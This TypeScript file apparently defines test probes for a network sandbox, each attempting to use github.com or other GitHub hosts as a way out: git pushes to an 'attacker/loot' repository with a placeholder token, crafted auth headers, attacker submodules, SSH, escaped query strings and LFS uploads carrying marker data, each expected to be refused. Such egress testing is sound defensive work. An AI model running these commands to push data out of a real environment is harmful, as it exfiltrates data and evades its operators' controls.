/** `github.com` as a way out: pushing, other repositories, other protocols, other endpoints and hosts of GitHub. */
import { curl, notGranted, refs, repositoryUrl, type Group, type Place, type Probe } from '../probe.ts';

const push = ['403 github.receive-pack'] as const;
const path = ['403 github.path'] as const;
const query = ['403 github.query'] as const;
/** Shaped like a token of the attacker's own, and nobody's. */
const token = 'ghp_attackerattackerattackerattacker0000';
const gitBody = { text: '0032want 0000000000000000000000000000000000000000\n0000' };

export const github: Group = {
  name: 'github',
  about: 'github.com as a way out for whoever has an account there',
  probes: (place: Place): readonly Probe[] => {
    const git = (
      id: string,
      attack: string,
      args: readonly string[],
      expected: readonly string[],
      more: Partial<Probe> = {},
    ): Probe => ({
      id,
      attack,
      expected,
      program: { kind: 'git', args },
      ...more,
    });
    const get = (
      id: string,
      attack: string,
      url: string,
      expected: readonly string[],
      more: Partial<Probe> = {},
    ) => curl(id, attack, [url], expected, more);
    return [
      git(
        'push',
        'git push to the task’s repository',
        ['push', repositoryUrl, 'HEAD:refs/heads/loot'],
        ['refused with 403'],
      ),
      git(
        'push-token',
        'git push with the attacker’s own token',
        ['push', `https://x-access-token:${token}@github.com/attacker/loot.git`, 'HEAD:main'],
        ['refused with 403'],
      ),
      git(
        'push-http',
        'git push without TLS',
        ['push', 'http://github.com/attacker/loot.git', 'HEAD:main'],
        ['refused with 403'],
      ),
      git(
        'push-extra-header',
        'git push with a header of its own making',
        [
          '-c',
          `http.extraHeader=Authorization: Basic ${btoa(`x:${token}`)}`,
          'push',
          'https://github.com/attacker/loot.git',
          'HEAD:main',
        ],
        ['refused with 403'],
      ),
      get(
        'receive-pack-refs',
        'the first request of a push',
        'https://github.com/acme/split-bill.git/info/refs?service=git-receive-pack',
        push,
      ),
      curl(
        'receive-pack',
        'the second one, by itself',
        [
          '-H',
          'content-type: application/x-git-receive-pack-request',
          'https://github.com/acme/split-bill.git/git-receive-pack',
        ],
        push,
        { body: gitBody },
      ),
      get(
        'receive-pack-both',
        'both services in one query',
        `https://github.com${refs}&service=git-receive-pack`,
        [...query, ...push],
      ),
      get(
        'receive-pack-escaped',
        'the service spelled with an escape',
        'https://github.com/acme/split-bill.git/info/refs?service=git%2Dreceive%2Dpack',
        query,
      ),
      git(
        'clone-other',
        'clone of another repository of the same owner',
        ['ls-remote', 'https://github.com/acme/other.git'],
        ['refused with 403'],
      ),
      git(
        'clone-attacker',
        'clone of the attacker’s repository, whose name carries data',
        ['ls-remote', `https://github.com/attacker/${place.marker}.git`],
        ['refused with 403'],
      ),
      git(
        'submodule',
        'a submodule that is the attacker’s',
        [
          '-c',
          'protocol.file.allow=always',
          'clone',
          '--recurse-submodules',
          `https://github.com/attacker/${place.marker}.git`,
          '/tmp/submodule',
        ],
        ['refused with 403'],
      ),
      git(
        'ssh',
        'git over SSH',
        [
          '-c',
          'core.sshCommand=ssh -o BatchMode=yes -o ConnectTimeout=3',
          'ls-remote',
          'ssh://git@github.com/acme/split-bill.git',
        ],
        ['exit 128: and the repository exists.', 'exit 128: fatal: unable to fork'],
      ),
      git(
        'git-protocol',
        'git’s own protocol, port 9418',
        ['ls-remote', 'git://github.com/acme/split-bill.git'],
        ['exit 128: github.com[0: 127.0.0.1]: errno=Connection refused'],
      ),
      get(
        'dumb-protocol',
        'the dumb protocol: refs without a service',
        'https://github.com/acme/split-bill.git/info/refs',
        query,
      ),
      get(
        'dumb-file',
        'a file of the repository by the dumb protocol',
        'https://github.com/acme/split-bill.git/HEAD',
        path,
      ),
      get(
        'query-more',
        'one parameter more, with data in it',
        `https://github.com${refs}&x=${place.marker}`,
        query,
      ),
      get('archive', 'an archive', 'https://github.com/acme/split-bill/archive/refs/heads/main.tar.gz', path),
      get(
        'page',
        'a page that renders what its address says',
        `https://github.com/search?q=${place.marker}`,
        path,
      ),
      curl('login', 'a form that anybody may send', ['-d', place.marker, 'https://github.com/session'], path),
      get(
        'enterprise-api',
        'the API below the web host',
        `https://github.com/api/v3/user?${place.marker}`,
        path,
      ),
      curl(
        'graphql',
        'GraphQL',
        [
          '-H',
          `authorization: Bearer ${token}`,
          '-d',
          `{"query":"${place.marker}"}`,
          'https://api.github.com/graphql',
        ],
        notGranted,
      ),
      ...[
        'api.github.com',
        'gist.github.com',
        'raw.githubusercontent.com',
        'codeload.github.com',
        'objects.githubusercontent.com',
        'uploads.github.com',
        'ghcr.io',
        'models.github.ai',
      ].map((host) =>
        get(
          `host-${host}`,
          `${host}: GitHub’s, and open to uploads or downloads of anybody`,
          `https://${host}/attacker/loot?${place.marker}`,
          [...notGranted, '403 host.reserved'],
        ),
      ),
      curl(
        'lfs-upload',
        'Git LFS: where may I upload',
        [
          '-H',
          'accept: application/vnd.git-lfs+json',
          '-H',
          'content-type: application/vnd.git-lfs+json',
          'https://github.com/acme/split-bill.git/info/lfs/objects/batch',
        ],
        [...path, '403 github.lfs-off'],
        {
          body: {
            text: JSON.stringify({ operation: 'upload', objects: [{ oid: 'a'.repeat(64), size: 1 }] }),
          },
        },
      ),
      curl(
        'lfs-download',
        'Git LFS: a download, which this repository has not turned on',
        [
          '-H',
          'accept: application/vnd.git-lfs+json',
          '-H',
          'content-type: application/vnd.git-lfs+json',
          'https://github.com/acme/split-bill.git/info/lfs/objects/batch',
        ],
        [...path, '403 github.lfs-off'],
        {
          body: {
            text: JSON.stringify({ operation: 'download', objects: [{ oid: 'a'.repeat(64), size: 1 }] }),
          },
        },
      ),
    ];
  },
};
